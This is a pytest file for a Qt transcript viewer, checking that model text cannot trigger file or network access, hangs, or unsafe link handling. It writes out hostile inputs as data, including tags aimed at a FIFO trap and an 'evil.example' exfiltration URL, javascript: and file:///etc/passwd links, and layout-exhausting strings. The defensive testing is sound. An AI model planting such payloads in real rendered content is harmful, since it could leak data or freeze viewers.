"""Model text that tries to fetch, open, hide or freeze (rows E1 to E5 of the fault suite)."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest
from PySide6.QtCore import QEvent, QPoint, QPointF, Qt
from PySide6.QtGui import QMouseEvent
from PySide6.QtWidgets import QApplication
from pytestqt.qtbot import QtBot

from tests.ui.transcript_pictures import MakeView, settled
from ui.transcript.entry import Entry
from ui.transcript.view import TranscriptView

FORBIDDEN = (
    "open",
    "socket.connect",
    "socket.getaddrinfo",
    "subprocess.Popen",
    "os.system",
    "urllib.Request",
)
SHAPES = (
    "![a](@)",
    "![a](<@> 'title')",
    "[![b](@)](http://x)",
    "<img src='@'>",
    "<link rel=stylesheet href=@>",
    "<style>p { background: url(@) }</style>",
    "![c][r]\n\n[r]: @",
    "<object data=@></object>",
    "@",
)
_watching: list[list[str]] = []


def _hook(event: str, arguments: tuple[object, ...]) -> None:
    if _watching and event in FORBIDDEN:
        _watching[-1].append(f"{event} {arguments[0]!r}")


sys.addaudithook(_hook)


@pytest.fixture
def fifo(tmp_path: Path) -> Path:
    """Whoever opens it for reading hangs for good."""
    path = tmp_path / "trap"
    os.mkfifo(path)
    return path


def test_e1_model_text_opens_no_file_and_no_connection(
    make_view: MakeView, qtbot: QtBot, fifo: Path, rich: str
) -> None:
    targets = (
        f"file://{fifo}",
        str(fifo),
        "/dev/zero",
        "http://127.0.0.1:9/x.png",
        "//host/share/x.png",
        "data:image/svg+xml;base64,PHN2Zy8+",
        "https://evil.example/?q=secret",
    )
    hostile = "\n\n".join(shape.replace("@", target) for target in targets for shape in SHAPES)
    view = make_view([Entry("0", "assistant", rich)])
    settled(view, qtbot)
    seen: list[str] = []
    _watching.append(seen)
    try:
        view.set_entries([Entry("1", "assistant", hostile, notice=hostile, heading=hostile, metrics=hostile)])
        for value in range(0, view.verticalScrollBar().maximum(), 300):
            view.verticalScrollBar().setValue(value)
            settled(view, qtbot)
            view.grab()
        hover_everywhere(view)
    finally:
        _watching.pop()
    assert [entry for entry in seen if ".pyc" not in entry and ".py'" not in entry] == []
    view.select_all()
    for needle in (str(fifo), "/dev/zero", "//host/share/x.png", "https://evil.example/?q=secret"):
        assert needle in view.selected_text()


def hover_everywhere(view: TranscriptView) -> None:
    for y in range(0, view.viewport().height(), 24):
        event = QMouseEvent(
            QEvent.Type.MouseMove,
            QPointF(300, y),
            QPointF(300, y),
            Qt.MouseButton.NoButton,
            Qt.MouseButton.NoButton,
            Qt.KeyboardModifier.NoModifier,
        )
        QApplication.sendEvent(view.viewport(), event)


@pytest.mark.parametrize("status", ["done", "streaming"])
def test_e2_every_character_is_there_to_be_copied(make_view: MakeView, status: str) -> None:
    lines = [
        "List<int> x",
        "1 < 2 and <unk> token end",
        "<think>reasoning</think>",
        "<div>",
        "unclosed <b>bold <i>both",
        "<!-- a comment -->",
        "<script>alert('x')</script> &",
        "a & b &unknown; c",
    ]
    view = make_view([Entry("1", "assistant", "\n\n".join(lines), status=status)])
    view.select_all()
    assert view.selected_text() == "\n\n".join(lines)


@pytest.mark.parametrize(
    "text",
    [
        "x" * 1_000_000,
        "| a | b |\n|---|---|\n" + "| x | y |\n" * 10_000,
        "*a**b" * 30_000,
        "".join(f"[r{n}]: http://x.example/{n}\n" for n in range(50_000)),
        "e" + "\u0301" * 100_000,
        "\u202eشلوم " * 20_000,
        "```python\n" + "x = 1 " * 150_000,
        "> " * 40_000,
        "[a](" * 20_000,
    ],
    ids=[
        "word",
        "table",
        "stars",
        "references",
        "combining",
        "right-to-left",
        "code line",
        "quotes",
        "brackets",
    ],
)
def test_e3_only_what_is_in_sight_is_laid_out(make_view: MakeView, qtbot: QtBot, text: str) -> None:
    view = make_view([Entry("1", "assistant", text, status="streaming")])
    message = view._arrangement.messages[0]
    settled(view, qtbot)
    assert not message.unfinished
    made = [box for box in message.boxes if box is not None]
    assert len(made) <= 200
    view.verticalScrollBar().setValue(view.verticalScrollBar().maximum() // 2)
    settled(view, qtbot)
    view.grab()


def test_e4_only_web_and_mail_addresses_are_handed_on_and_only_when_clicked(
    make_view: MakeView, qtbot: QtBot
) -> None:
    targets = (
        "javascript:alert(1)",
        "file:///etc/passwd",
        "smb://host/x",
        "ms-settings:x",
        "own:x",
        "data:text/html,x",
    )
    bad = "\n\n".join(f"[link {n}]({target})" for n, target in enumerate(targets))
    view = make_view([Entry("1", "assistant", f"[good](https://user@host.example/a%20b?c=d)\n\n{bad}")])
    told: list[str] = []
    view.link_activated.connect(told.append)
    hover_everywhere(view)
    assert told == []
    for y in range(2, view.viewport().height(), 8):
        for x in range(0, view.viewport().width(), 16):
            if y < 60 or view._arrangement.messages[0].link_at(x - view._arrangement.left, y):
                qtbot.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=QPoint(x, y))
    assert set(told) == {"https://user@host.example/a%20b?c=d"}
    view.select_all()
    for target in targets:
        assert target in view.selected_text()


def test_e5_names_and_notices_are_shown_literally(make_view: MakeView, qtbot: QtBot, fifo: Path) -> None:
    evil = f"<b>x</b><img src='{fifo}'><a href='http://x'>y</a> & **z**"
    view = make_view([
        Entry("q", "user", evil, pictures=(("a" * 64, evil),)),
        Entry("1", "assistant", heading=evil, metrics=evil, notice=evil, waiting=evil, status="failed"),
    ])  # fmt: skip
    settled(view, qtbot)
    frame = view._arrangement.messages[1].frame
    assert frame.notice is not None
    assert frame.notice.text == evil
    assert frame._heading is not None
    start, end = frame._heading.text.split("…")  # cut in the middle, and nothing but cut
    assert evil.startswith(start)
    assert evil.endswith(end)
    view.select_all()
    assert view.selected_text() == f"{evil}\n\n{evil}"


def test_control_characters_do_no_harm(make_view: MakeView, qtbot: QtBot) -> None:
    text = "a\x00b\u2028c\x0bd\x85e\rf\ud800g\ufeffh\t\x1bi\n\n```x\r\n\ty\x00\n```"
    view = make_view([Entry("1", "assistant", text), Entry("2", "user", text)])
    settled(view, qtbot)
    view.grab()
    view.select_all()
    assert "h" in view.selected_text()
